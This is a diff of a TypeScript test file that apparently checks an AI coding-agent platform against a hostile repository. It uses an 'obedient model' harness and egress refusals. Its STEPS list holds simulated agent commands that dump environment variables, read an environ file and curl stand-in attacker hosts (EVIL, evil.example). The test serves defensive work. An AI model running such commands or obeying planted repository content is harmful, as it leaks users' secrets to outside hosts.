@@ -1,28 +1,22 @@
-import { execFile } from 'node:child_process';
-import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
+import { readdirSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
-import path from 'node:path';
-import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { EgressRefusals } from '../protocol/pages.ts';
 import { type Client, connect } from './harness/client.ts';
-import { RAN, fillHostile } from './harness/hostile-repository.ts';
+import { ON_ANY, RAN, pushHostile } from './harness/hostile-repository.ts';
 import { type ObedientModel, startObedientModel } from './harness/obedient-model.ts';
 import { plantedIn } from './harness/planted.ts';
 import { type TestStack, startTestStack } from './harness/stack.ts';
 import { untilTasks } from './harness/task-watch.ts';
 
-const run = promisify(execFile);
 const DONE_MS = 150_000;
 const WISH = 'Work on it.';
 const START = { repository: 'acme/todo', title: 'Hostile', prompt: 'Go.', mode: 'direct' };
 
-/** What a worker does on any repository; of the hostile one's files none is called. */
 const STEPS = [
-  'ls -la; git status; git log -3; git diff HEAD~1 --stat; git submodule status',
-  'echo more > more.txt; echo more > more.bin; git add -A; git commit -qm "More"; git checkout -q -b other; git checkout -q -',
+  ...ON_ANY,
   'env | sort; cat environ.txt | head -c 300; curl -sm 5 EVIL/asked; curl -sm 5 https://evil.example/asked; true',
 ];
 
@@ -30,7 +24,6 @@ describe('a hostile repository', () => {
   let stack: TestStack;
   let model: ObedientModel;
   let client: Client;
-  let folder: string;
   let evil: string;
   let stopEvil: () => void;
   const asked: string[] = [];
@@ -65,19 +58,7 @@ describe('a hostile repository', () => {
     stack = await startTestStack({
       settings: { ANTHROPIC_BASE_URL: model.url, ANTHROPIC_API_KEY: 'a-key-of-the-hostile-test' },
     });
-    folder = mkdtempSync(path.join(tmpdir(), 'mainloop-hostile-'));
-    const git = async (...args: string[]) => {
-      const header = `http.extraHeader=Authorization: Bearer ${stack.gitHost?.token}`;
-      const who = ['-c', 'user.name=Eve', '-c', 'user.email=eve@example.com', '-c', header];
-      const env = { PATH: process.env.PATH, HOME: folder, TZ: 'UTC' };
-      await run('git', [...who, ...args], { cwd: path.join(folder), env });
-    };
-    await git('clone', '--quiet', `${stack.gitHost?.url}/acme/todo.git`, 'clone');
-    const clone = path.join(folder, 'clone');
-    fillHostile(clone, evil);
-    await git('-C', clone, 'add', '--all', '--force');
-    await git('-C', clone, 'commit', '--quiet', '-m', 'Hostile');
-    await git('-C', clone, 'push', '--quiet', 'origin', 'HEAD:refs/heads/main');
+    await pushHostile(stack, evil);
     client = await connect(stack.url);
   }, DONE_MS);
 
@@ -86,7 +67,6 @@ describe('a hostile repository', () => {
     await stack.stop();
     await model.stop();
     stopEvil();
-    rmSync(folder, { recursive: true, force: true });
   });
 
   it(
